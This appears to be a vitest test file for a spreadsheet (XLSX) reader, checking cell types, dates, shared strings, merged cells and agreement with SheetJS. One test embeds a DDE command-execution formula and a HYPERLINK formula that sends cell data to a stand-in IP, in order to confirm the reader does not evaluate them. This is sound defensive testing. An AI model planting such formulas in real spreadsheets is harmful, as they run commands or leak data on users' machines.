import * as XLSX from '@e965/xlsx'
import fc from 'fast-check'
import { writeXlsx } from 'hucre/xlsx'
import { describe, expect, it, vi } from 'vitest'
import {
  aWorkbookOf,
  openedWorkbook,
  textsOf,
  relations,
  someRows,
  someStyles,
  type SampleParts,
  zipped,
} from './package-samples.ts'
import type { Sheet } from './workbook.ts'

vi.setConfig({ testTimeout: 60_000 })

async function firstSheet(parts: SampleParts): Promise<Sheet> {
  const [sheet] = (await openedWorkbook(await zipped(parts))).sheets
  if (!sheet) throw new Error('No sheet')
  return sheet
}

const sharedStrings = (...items: string[]) => ({ 'xl/sharedStrings.xml': `<sst>${items.join('')}</sst>` })

describe('cells', () => {
  it('come as text with the kind they had', async () => {
    const sheet = await firstSheet(
      aWorkbookOf(
        `<sheetData><row r="2">
          <c r="A2" t="s"><v>0</v></c><c r="B2"><v>1820.5</v></c><c r="C2" s="1"><v>45153</v></c>
          <c r="D2" t="b"><v>1</v></c><c r="E2" t="e"><v>#REF!</v></c><c r="F2"><f>B2*2</f><v>3641</v></c>
          <c r="G2" s="1"/><c r="H2" t="inlineStr"><is><t>就地</t></is></c><c r="I2" t="str"><f>A2</f><v>张三</v></c>
          <c r="J2" t="d"><v>2023-08-15T00:00:00</v></c><c r="K2" s="1"><f>TODAY()</f></c>
        </row></sheetData>`,
        { ...sharedStrings('<si><t>张三</t></si>'), 'xl/styles.xml': someStyles([0, 14]) },
      ),
    )
    expect(sheet.rowNumber(0)).toBe(2)
    expect(textsOf(sheet)).toEqual([
      ['张三', '1820.5', '2023-08-15', 'TRUE', '#REF!', '3641', '', '就地', '张三', '2023-08-15', ''],
    ])
    const kinds = Array.from({ length: 11 }, (_, column) => sheet.kind(0, column))
    expect(kinds).toEqual([
      'text',
      'number',
      'date',
      'boolean',
      'error',
      'formula',
      'blank',
      'text',
      'formula',
      'date',
      'formula',
    ])
    expect([sheet.shownKind(0, 5), sheet.shownKind(0, 8), sheet.shownKind(0, 10)]).toEqual([
      'number',
      'text',
      'blank',
    ])
    expect([sheet.formula(0, 5), sheet.formula(0, 10), sheet.formula(0, 1)]).toEqual([
      'B2*2',
      'TODAY()',
      undefined,
    ])
  })

  it('keep formulas as text and evaluate nothing', async () => {
    const attack = `<row r="1"><c r="A1" t="str"><f>cmd|'/c calc'!A0</f><v>1</v></c><c r="B1" t="str"><f>HYPERLINK("http://203.0.113.1/?"&amp;C1,"ok")</f><v>ok</v></c></row>`
    const sheet = await firstSheet(aWorkbookOf(`<sheetData>${attack}</sheetData>`))
    expect(textsOf(sheet)).toEqual([['1', 'ok']])
    expect(sheet.formula(0, 0)).toBe(`cmd|'/c calc'!A0`)
    expect(sheet.formula(0, 1)).toBe('HYPERLINK("http://203.0.113.1/?"&C1,"ok")')
  })

  it('give each cell of a shared formula its text', async () => {
    const rows = `<row r="1"><c r="A1"><f t="shared" ref="A1:A2" si="0">B1+1</f><v>1</v></c></row><row r="2"><c r="A2"><f t="shared" si="0"/><v>2</v></c></row>`
    const sheet = await firstSheet(aWorkbookOf(`<sheetData>${rows}</sheetData>`))
    expect([sheet.formula(0, 0), sheet.formula(1, 0)]).toEqual(['B1+1', 'B1+1'])
  })

  it('join rich text, leave out phonetic hints and undo escapes', async () => {
    const items = [
      '<si><r><rPr><b/></rPr><t>张</t></r><r><t xml:space="preserve"> 三</t></r><rPh sb="0" eb="1"><t>zhang</t></rPh></si>',
      '<si><t>a_x000D_b &amp;&#x4e00;&lt;</t></si>',
      '<si><t>_x005F_x0041_</t></si>',
      '<si><t><![CDATA[<原样>]]></t></si>',
      '<si/>',
    ]
    const cells = items.map((_, at) => `<c t="s"><v>${at}</v></c>`).join('')
    const sheet = await firstSheet(
      aWorkbookOf(`<sheetData><row>${cells}</row></sheetData>`, sharedStrings(...items)),
    )
    expect(textsOf(sheet)).toEqual([['张 三', 'a\rb &一<', '_x0041_', '<原样>']])
  })

  it('flag numbers whose last digits a spreadsheet has lost, and only those', async () => {
    const cells = [
      '3.70683198507051E+17',
      '370683198507051000',
      '1234567890123456',
      '3706831234567',
      '0.33333333333333331',
      '12.5',
    ]
      .map((value) => `<c><v>${value}</v></c>`)
      .concat(
        '<c t="inlineStr"><is><t>3.70683E+17</t></is></c>',
        '<c t="inlineStr"><is><t>370683198507051234</t></is></c>',
      )
    const sheet = await firstSheet(aWorkbookOf(`<sheetData><row>${cells.join('')}</row></sheetData>`))
    expect(textsOf(sheet)[0]).toEqual([
      '370683198507051000',
      '370683198507051000',
      '1234567890123456',
      '3706831234567',
      '0.333333333333333',
      '12.5',
      '3.70683E+17',
      '370683198507051234',
    ])
    const flags = Array.from({ length: 8 }, (_, column) => sheet.isMangled(0, column))
    expect(flags).toEqual([true, true, true, false, false, false, true, false])
  })

  it('keep full-width digits as they are: judging them is for the reader of ID numbers', async () => {
    expect(textsOf(await firstSheet(aWorkbookOf(someRows([['３７０６８３']]))))).toEqual([['３７０６８３']])
  })
})

describe('days', () => {
  const styles = {
    'xl/styles.xml': someStyles(['yyyy"年"m"月"d"日"', 31, 'hh:mm', '[h]:mm', '0000000000', '0.00"日"']),
  }
  const row = [
    '<c s="0"><v>45153</v></c>',
    '<c s="1"><v>1</v></c>',
    '<c s="0"><v>59</v></c>',
    '<c s="0"><v>60</v></c>',
    '<c s="0"><v>61</v></c>',
    '<c s="2"><v>0.75</v></c>',
    '<c s="0"><v>45153.5</v></c>',
    '<c s="3"><v>1.5</v></c>',
    '<c s="4"><v>123456789</v></c>',
    '<c s="5"><v>7</v></c>',
    '<c s="0"><v>-1</v></c>',
    '<c s="0"><v>370683198507</v></c>',
  ]
  const sheetXml = `<sheetData><row>${row.join('')}</row></sheetData>`

  it('are read from serials of the 1900 system', async () => {
    const texts = textsOf(await firstSheet(aWorkbookOf(sheetXml, styles)))[0]
    expect(texts).toEqual([
      '2023-08-15',
      '1900-01-01',
      '1900-02-28',
      '1900-02-29',
      '1900-03-01',
      '18:00:00',
      '2023-08-15 12:00:00',
      '1.5',
      '0123456789',
      '7',
      '-1',
      '370683198507',
    ])
  })
  it('are read from serials of the 1904 system', async () => {
    const parts = aWorkbookOf(sheetXml, styles)
    const workbook = String(parts['xl/workbook.xml']).replace(
      '<sheets>',
      '<workbookPr date1904="1"/><sheets>',
    )
    const texts = textsOf(await firstSheet({ ...parts, 'xl/workbook.xml': workbook }))[0]
    expect(texts?.slice(0, 2)).toEqual(['2027-08-16', '1904-01-02'])
  })
})

describe('sheets', () => {
  it('know merged cells, row numbers across gaps and column widths', async () => {
    const sheet = await firstSheet(
      aWorkbookOf(
        `<cols><col min="2" max="3" width="24.5"/></cols>
        <sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>沙河镇</t></is></c><c r="B1"><v>1</v></c></row>
        <row r="3"><c r="A3" s="4"/><c r="B3"><v>2</v></c></row><row r="9"><c r="B9"><v>3</v></c></row></sheetData>
        <mergeCells count="1"><mergeCell ref="A1:A3"/></mergeCells>`,
      ),
    )
    expect([0, 1, 2].map((row) => sheet.rowNumber(row))).toEqual([1, 3, 9])
    expect([0, 1, 2].map((row) => sheet.mergedText(row, 0))).toEqual(['沙河镇', '沙河镇', ''])
    expect(sheet.text(1, 0)).toBe('')
    expect(sheet.merges).toEqual([{ fromRow: 1, fromColumn: 1, toRow: 3, toColumn: 1 }])
    expect([0, 1, 2, 3].map((column) => sheet.width(column))).toEqual([undefined, 24.5, 24.5, undefined])
    expect(() => sheet.rowNumber(3)).toThrow(RangeError)
  })

  it('are found whatever their part is called, hidden ones marked, chart sheets left out', async () => {
    const parts = aWorkbookOf('', {
      '_rels/.rels': relations([['a', 'officeDocument', '/XL/Workbook.xml']]),
      'xl/workbook.xml':
        '<x:workbook xmlns:x="urn:x" xmlns:r="urn:r"><x:sheets><x:sheet name="一 &amp; 二" r:id="s1"/><x:sheet name="图" r:id="c1"/><x:sheet name="藏" state="veryHidden" r:id="s2"/></x:sheets></x:workbook>',
      'xl/_rels/workbook.xml.rels': relations([
        ['s1', 'worksheet', 'worksheets/我的.xml'],
        ['c1', 'chartsheet', 'chartsheets/sheet1.xml'],
        ['s2', 'worksheet', '/xl/worksheets/sheet1.xml'],
      ]),
      'xl/worksheets/我的.xml':
        '\ufeff<?xml version="1.0"?><!-- > --><x:worksheet xmlns:x="urn:x"><x:sheetData><x:row><x:c t="inlineStr"><x:is><x:t>前缀</x:t></x:is></x:c></x:row></x:sheetData></x:worksheet>',
      'xl/worksheets/sheet1.xml': Buffer.from(
        `\ufeff<worksheet>${someRows([['十六位']])}</worksheet>`,
        'utf16le',
      ),
    })
    const { sheets } = await openedWorkbook(await zipped(parts))
    expect(sheets.map(({ name, hidden }) => [name, hidden])).toEqual([
      ['一 & 二', false],
      ['藏', true],
    ])
    expect(sheets.map(textsOf)).toEqual([[['前缀']], [['十六位']]])
  })

  it('ignore rows and cells that are formatted but blank', async () => {
    const sheet = await firstSheet(
      aWorkbookOf(
        '<sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>一</t></is></c><c r="Z1" t="inlineStr"><is><t>  </t></is></c></row><row r="2" s="1"><c r="A2" s="1"/><c r="B2" s="1"></c></row><row r="1048576"><c r="XFD1048576" s="2"/></row></sheetData>',
      ),
    )
    expect([sheet.rowCount, sheet.columnCount]).toEqual([1, 1])
  })
})

describe('compared with other readers', () => {
  const cell = fc.oneof(
    fc.constant(null),
    fc
      .string({ unit: 'grapheme', minLength: 1, maxLength: 12 })
      .filter((text) => text.trim() === text && !/[\p{Cc}\p{Cs}\ufffe\uffff]/u.test(text)),
    fc.constantFrom('370683198507051234', '３７０', '=1+1', 'a&b<c>"d\'', '张 三', '第一行\n第二行'),
    fc.integer({ min: -1_000_000, max: 1e12 }),
    fc.integer({ min: -99_999, max: 99_999 }).map((cents) => cents / 100),
    fc.boolean(),
  )
  const rows = fc.array(fc.array(cell, { minLength: 1, maxLength: 8 }), { minLength: 1, maxLength: 12 })
  const shown = (value: unknown) =>
    value === null || value === undefined
      ? ''
      : typeof value === 'boolean'
        ? String(value).toUpperCase()
        : String(value)
  const trimmed = (table: unknown[][]) => {
    const width = Math.max(0, ...table.map((row) => row.findLastIndex((value) => shown(value) !== '') + 1))
    return table
      .filter((row) => row.some((value) => shown(value) !== ''))
      .map((row) => Array.from({ length: width }, (_, at) => shown(row[at])))
  }

  it('reads what SheetJS writes, with shared strings and without, as it was given', async () => {
    await fc.assert(
      fc.asyncProperty(rows, fc.boolean(), async (table, bookSST) => {
        fc.pre(trimmed(table).length > 0)
        const book = XLSX.utils.book_new(XLSX.utils.aoa_to_sheet(table), '表')
        const bytes = new Uint8Array(
          XLSX.write(book, { type: 'array', bookType: 'xlsx', bookSST }) as ArrayBuffer,
        )
        const [sheet] = (await openedWorkbook(bytes)).sheets
        expect(textsOf(sheet)).toEqual(trimmed(table))
        const reread = XLSX.utils.sheet_to_json<unknown[]>(XLSX.read(bytes).Sheets['表'] ?? {}, {
          header: 1,
          raw: true,
          blankrows: true,
          defval: null,
        })
        expect(textsOf(sheet)).toEqual(trimmed(reread))
      }),
      { numRuns: 40 },
    )
  })

  it('reads what hucre writes as it was given', async () => {
    await fc.assert(
      fc.asyncProperty(rows, async (table) => {
        fc.pre(trimmed(table).length > 0)
        const [sheet] = (await openedWorkbook(await writeXlsx({ sheets: [{ name: '表', rows: table }] })))
          .sheets
        expect(textsOf(sheet)).toEqual(trimmed(table))
      }),
      { numRuns: 25 },
    )
  })

  it('reads days as SheetJS shows them', async () => {
    const days = Array.from(
      { length: 60 },
      (_, at) => new Date(Date.UTC(1901 + at * 3, (at * 5) % 12, 1 + ((at * 11) % 28))),
    )
    const book = XLSX.utils.book_new(
      XLSX.utils.aoa_to_sheet(
        days.map((day) => [day]),
        { UTC: true, dateNF: 'yyyy-mm-dd' },
      ),
      '表',
    )
    const bytes = new Uint8Array(XLSX.write(book, { type: 'array' }) as ArrayBuffer)
    const [sheet] = (await openedWorkbook(bytes)).sheets
    expect(textsOf(sheet)).toEqual(days.map((day) => [day.toISOString().slice(0, 10)]))
  })
})
